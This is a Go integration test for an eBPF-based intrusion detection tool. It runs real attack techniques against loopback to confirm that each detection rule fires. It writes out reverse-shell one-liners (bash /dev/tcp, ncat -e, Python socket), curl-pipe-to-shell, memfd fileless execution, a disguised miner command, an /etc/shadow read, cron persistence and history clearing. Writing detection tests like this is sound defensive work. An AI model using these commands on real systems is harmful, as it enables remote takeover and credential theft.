//go:build integration

package rules_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/enrich"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/sensor"
	"github.com/vigilsec/vigil/internal/sensor/ebpf/file"
	"github.com/vigilsec/vigil/internal/sensor/ebpf/network"
	"github.com/vigilsec/vigil/internal/sensor/ebpf/process"
	"github.com/vigilsec/vigil/internal/testutil"
)

// TestLive runs the shipped rules on what the real sensors and the
// enrichment make of real attacks done on loopback: each action must raise
// its rule (matched by a marker unique to the action in the alert), and a
// benign control must raise nothing.
func TestLive(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireBPF(t)
	python := testutil.RequireCommand(t, "python3")
	testutil.RequireCommand(t, "ncat")
	testutil.RequireCommand(t, "curl")

	rs := load(t)
	eng, err := detect.New(rs, detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	en, err := enrich.New(enrich.Options{NoContainers: true})
	if err != nil {
		t.Fatal(err)
	}
	defer en.Close()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	events := make(chan *event.Event, 1<<16)
	sink := sensor.SinkFunc(func(ev *event.Event) bool {
		select {
		case events <- ev:
			return true
		default:
			return false
		}
	})
	ps := process.New(process.Config{})
	fs, err := file.New(file.Config{WriteWatch: []string{"/etc/cron.d/", "/tmp/", "/dev/shm/"}, ReadWatch: []string{"/etc/shadow"}})
	if err != nil {
		t.Fatal(err)
	}
	ns, err := network.New(network.Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []sensor.Sensor{ps, fs, ns} {
		if err := s.Start(ctx, sink); err != nil {
			t.Fatalf("start %s sensor: %v", s.Name(), err)
		}
		defer s.Close()
	}

	var mu sync.Mutex
	var alerts []string // "RULE-ID json"
	go func() {
		for {
			select {
			case <-ctx.Done():
				return
			case ev := <-events:
				en.Apply(ev)
				for _, a := range eng.Process(ev) {
					b, _ := json.Marshal(a)
					mu.Lock()
					alerts = append(alerts, a.Rule.ID+" "+string(b))
					mu.Unlock()
				}
			}
		}
	}()
	time.Sleep(200 * time.Millisecond) // the reader goroutines are up

	mark := fmt.Sprintf("vigil-live-%d", os.Getpid())
	ln := listen(t, "127.0.0.1:0", func(c net.Conn) { c.Write([]byte("exit\n")); time.Sleep(100 * time.Millisecond) })
	port := ln.Addr().(*net.TCPAddr).Port
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "true") })}
	hl := listen(t, "127.0.0.1:0", nil)
	go srv.Serve(hl)
	defer srv.Close()
	tmp := t.TempDir()
	if !strings.HasPrefix(tmp, "/tmp/") {
		t.Fatalf("temporary directory %s is not under /tmp: set TMPDIR=/tmp", tmp)
	}

	type want struct{ rule, marker string }
	var wants []want
	run := func(dir string, ws []want, name string, args ...string) {
		t.Helper()
		cmd := exec.Command(name, args...)
		cmd.Dir = dir
		err := cmd.Run() // output is not kept: one of the commands reads /etc/shadow
		t.Logf("%s %q: %v", name, args, err)
		wants = append(wants, ws...)
	}

	devTCP := fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)
	run("/", []want{{"VGL-EXEC-REVERSE-SHELL-CMDLINE", devTCP}, {"VGL-EXEC-REVERSE-SHELL", devTCP}}, "bash", "-c", devTCP)
	run("/", []want{{"VGL-EXEC-REVERSE-SHELL-CMDLINE", "ncat -e /bin/sh"}}, "ncat", "-e", "/bin/sh", "127.0.0.1", fmt.Sprint(port))
	py := fmt.Sprintf("import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])", port)
	run("/", []want{{"VGL-EXEC-SCRIPT-ONELINER-NET", "s.connect"}, {"VGL-EXEC-REVERSE-SHELL", "s.connect"}}, python, "-c", py)
	curl := fmt.Sprintf("curl -s http://127.0.0.1:%d/%s | sh", hl.Addr().(*net.TCPAddr).Port, mark)
	run("/", []want{{"VGL-EXEC-DOWNLOAD-PIPE-SHELL", curl}}, "sh", "-c", curl)
	run("/", []want{{"VGL-EXEC-BASE64-SHELL", mark}}, "sh", "-c", "echo dHJ1ZQo= | base64 -d | sh # "+mark)

	bin := filepath.Join(tmp, mark)
	copyFile(t, "/usr/bin/true", bin, 0o644)
	run("/", nil, "chmod", "+x", bin)
	run("/", []want{{"VGL-FILE-CHMOD-X-TMP", bin}, {"VGL-EXEC-TMP-BINARY", bin}, {"VGL-EXEC-TMP-CHMOD-EXEC", bin}}, bin)
	script := filepath.Join(tmp, mark+".sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ntrue\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	run(tmp, []want{{"VGL-EXEC-TMP-BINARY", script}}, "./"+filepath.Base(script))
	shm := "/dev/shm/" + mark
	copyFile(t, "/usr/bin/true", shm, 0o755)
	defer os.Remove(shm)
	run("/", []want{{"VGL-EXEC-DEV-SHM", shm}}, shm)
	memfd := fmt.Sprintf("import os;fd=os.memfd_create('%s');os.write(fd,open('/usr/bin/true','rb').read());os.execv('/proc/self/fd/%%d'%%fd,['x'])", mark)
	run("/", []want{{"VGL-MEMFD-CREATE-UNUSUAL", mark}, {"VGL-EXEC-MEMFD", "/memfd:" + mark}}, python, "-c", memfd)
	run("/", []want{{"VGL-MINER-CMDLINE", mark}}, "bash", "-c", "exec -a kworker true --donate-level=1 -o stratum+tcp://127.0.0.1:3333 "+mark)
	if pool, err := net.Listen("tcp", "127.0.0.1:3333"); err == nil {
		pool.Close() // a refused connect is a connect all the same
		run("/", []want{{"VGL-MINER-POOL-PORT", `"dst_port":3333`}}, "ncat", "--send-only", "127.0.0.1", "3333")
	}
	run("/", []want{{"VGL-CRED-SHADOW-READ", `"path":"/etc/shadow"`}}, "cat", "/etc/shadow")
	cron := "/etc/cron.d/" + mark
	defer os.Remove(cron)
	run("/", []want{{"VGL-PERSIST-CRON", cron}}, "sh", "-c", "echo '# "+mark+"' > "+cron)
	run("/", []want{{"VGL-EVADE-HISTORY-CLEAR", mark}}, "sh", "-c", "history -c; unset HISTFILE # "+mark)
	benign := mark + "-benign"
	run(tmp, nil, "bash", "-c", "ls -l >/dev/null; cat /etc/hostname >/dev/null # "+benign)

	deadline := time.Now().Add(10 * time.Second)
	for {
		mu.Lock()
		var missing []want
		for _, w := range wants {
			if !found(alerts, w.rule, w.marker) {
				missing = append(missing, w)
			}
		}
		var noisy []string
		for _, a := range alerts {
			if strings.Contains(a, benign) {
				noisy = append(noisy, a)
			}
		}
		mu.Unlock()
		if len(noisy) > 0 {
			t.Fatalf("benign control raised alerts:\n%s", strings.Join(noisy, "\n"))
		}
		if len(missing) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no alert for %v; engine stats %+v", missing, eng.Stats())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func found(alerts []string, rule, marker string) bool {
	for _, a := range alerts {
		if strings.HasPrefix(a, rule+" ") && strings.Contains(a, jsonEscape(marker)) {
			return true
		}
	}
	return false
}

// jsonEscape is marker as it appears inside a JSON string, unless it is
// already a JSON fragment.
func jsonEscape(s string) string {
	if strings.HasPrefix(s, `"`) {
		return s
	}
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

func listen(t *testing.T, addr string, serve func(net.Conn)) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	if serve != nil {
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				serve(c)
				c.Close()
			}
		}()
	}
	return ln
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, mode); err != nil {
		t.Fatal(err)
	}
}
